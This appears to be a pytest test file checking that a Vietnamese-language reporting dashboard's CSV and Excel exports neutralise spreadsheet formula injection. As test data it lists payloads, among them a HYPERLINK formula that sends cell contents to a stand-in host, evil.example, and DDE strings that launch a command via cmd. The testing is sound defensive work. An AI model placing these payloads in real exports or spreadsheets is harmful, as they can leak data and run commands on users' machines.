"""Formulas in downloads: every CSV the dashboard offers goes through one writer that neutralises text a
spreadsheet would run (OWASP, CSV injection); report workbooks mark such text as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook

from access.exports import csv_bytes, neutralised
from reports.cells import put

ROOT = Path(__file__).resolve().parents[2]
# what the attempts put in a ward officer's child list and a data engineer's quality table
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(1,2) TCMR_MoLao_T03-2025.xlsx",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # UTF-8 with BOM: Excel reads the Vietnamese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_any_text_cell_leaves_as_text(payload):
    frame = pd.DataFrame({"Họ tên": [payload], "Tệp": ["ok.xlsx"], "Số dòng": [12]})
    rows = _cells(csv_bytes(frame))
    assert rows == [["Họ tên", "Tệp", "Số dòng"], ["'" + payload, "ok.xlsx", "12"]]


def test_figures_stay_figures_and_plain_text_is_unchanged():
    frame = pd.DataFrame(
        {"ward": ["Mộ Lao", "-"], "change": [-4, 3], "rate": [-0.125, None], "note": [None, "a;=b"]}
    )
    text = csv_bytes(frame).decode("utf-8-sig")
    # numbers unquoted and unprefixed (a negative number is a number, not text); every text quoted,
    # so that a separator inside one cannot start a new cell in a locale that splits on ';'
    assert text.splitlines() == [
        '"ward","change","rate","note"',
        '"Mộ Lao",-4,-0.125,""',
        '"\'-",3,"","a;=b"',
    ]


def test_column_names_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": ["x"]})
    assert _cells(csv_bytes(frame))[0] == ["'=1+1"]


def test_neutralised_leaves_everything_but_formula_text():
    assert [neutralised(v) for v in ("Mộ Lao", "", 5, None, "=A1")] == ["Mộ Lao", "", 5, None, "'=A1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_report_cells_keep_the_payload_as_quoted_text(payload):
    cell = Workbook().active["A1"]
    put(cell, payload)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)


def test_every_download_of_the_dashboard_goes_through_the_one_writer():
    """No page calls st.download_button or to_csv itself: only dashboard/downloads.py does."""
    offenders = []
    for path in sorted((ROOT / "dashboard").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name != "downloads.py" and re.search(r"download_button|to_csv|to_excel", text):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


@pytest.mark.slow
def test_the_quality_tables_crafted_file_name_downloads_neutralised(report_home, monkeypatch):
    """The report home holds a quarantined file whose name is a HYPERLINK formula: the data engineer's
    rejected-files table, downloaded, carries it as text."""
    from streamlit.testing.v1 import AppTest

    from dashboard import auth, downloads
    from dashboard.queries import quality
    from tests.conftest import CRAFTED_NAME
    from tests.dashboard.session import sign_in

    monkeypatch.setenv("TREEM_HOME", str(report_home.root))
    app = sign_in(AppTest.from_file(str(ROOT / "dashboard" / "app.py"), default_timeout=60), "data_engineer")
    app.run()
    session = app.session_state["treem_session"]
    monkeypatch.setattr(auth, "current_session", lambda: session)
    monkeypatch.setattr(auth, "current_viewer", lambda: session["viewer"])
    frame = quality.rejected_files()
    assert CRAFTED_NAME in set(frame["latest_file_name"])
    cells = {cell for row in _cells(downloads.file_data(frame, "tep-cach-ly.csv")()) for cell in row}
    assert "'" + CRAFTED_NAME in cells and CRAFTED_NAME not in cells
